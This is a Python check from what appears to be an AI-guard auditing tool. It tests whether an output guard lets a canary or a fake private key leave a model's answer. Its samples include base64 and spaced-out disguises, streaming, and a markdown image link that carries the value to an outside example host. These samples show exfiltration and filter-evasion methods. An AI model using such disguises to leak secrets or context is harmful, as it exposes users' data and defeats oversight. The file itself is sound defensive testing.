"""ACC271: guards that let through what may not leave."""

from __future__ import annotations

from collections.abc import Iterator

from accord.checks.guards import CANARY, lapse, made_up_key, policy_of, talks
from accord.core import Context, Finding, System, check


@check("ACC271", on=("system",), bears_on=("1.3.k/output-rules-on",), since="0.5", applies=talks)
def leaking_answers(system: System, ctx: Context) -> Iterator[Finding]:
    """Guard lets a planted value or a secret leave in an answer.

    ## What it does
    Puts a canary of its own into the documented policy, and has the guard release answers that hold it: as it is,
    in base64, spaced out, in the address of an image, and streamed letter by letter. Does the same with a private
    key that it makes up. Reports each that comes through.

    ## Why it matters
    Whatever is in the context of a model can be talked out of it. Only what looks at the answer itself, in every
    disguise and before the last letter left, keeps it in.

    ## Example
    A policy that switches the watch over secrets off: see `tests/checks/ACC271/bad`.

    ## Fix
    Set `secrets: redact` or `block`, `mode: enforce`, and name the values that must never leave under `canaries`.

    ## References
    - LLM02
    - LLM07
    - AML.T0057
    """
    import base64
    from dataclasses import replace

    from accord.guard.engine import Guard

    policy = policy_of(ctx)
    if policy is None:
        return
    guard = Guard(replace(policy, canaries=(*policy.canaries, CANARY)))
    plain = f"The note says {CANARY}, and that is all."
    disguised = {
        "as it is": plain,
        "in base64": f"The note says {base64.b64encode(CANARY.encode()).decode()}, and that is all.",
        "spaced out": f"The note says {' '.join(CANARY)}, and that is all.",
        "in the address of an image": f"![plan](https://pictures.example.org/a.png?x={CANARY})",
    }
    for how, answer in disguised.items():
        if not guard.release(answer).stops:
            yield lapse(ctx, f"a planted value leaves {how}", fix="set mode: enforce and name what may not leave")
    stream = guard.stream()
    left = "".join(stream.feed(letter).text for letter in plain) + stream.end().text
    if CANARY in left:
        yield lapse(ctx, "a planted value leaves letter by letter in a stream", fix="set mode: enforce")
    if not guard.release(made_up_key()).withholds:
        yield lapse(ctx, "a private key leaves in an answer", fix="set secrets: redact, or block")
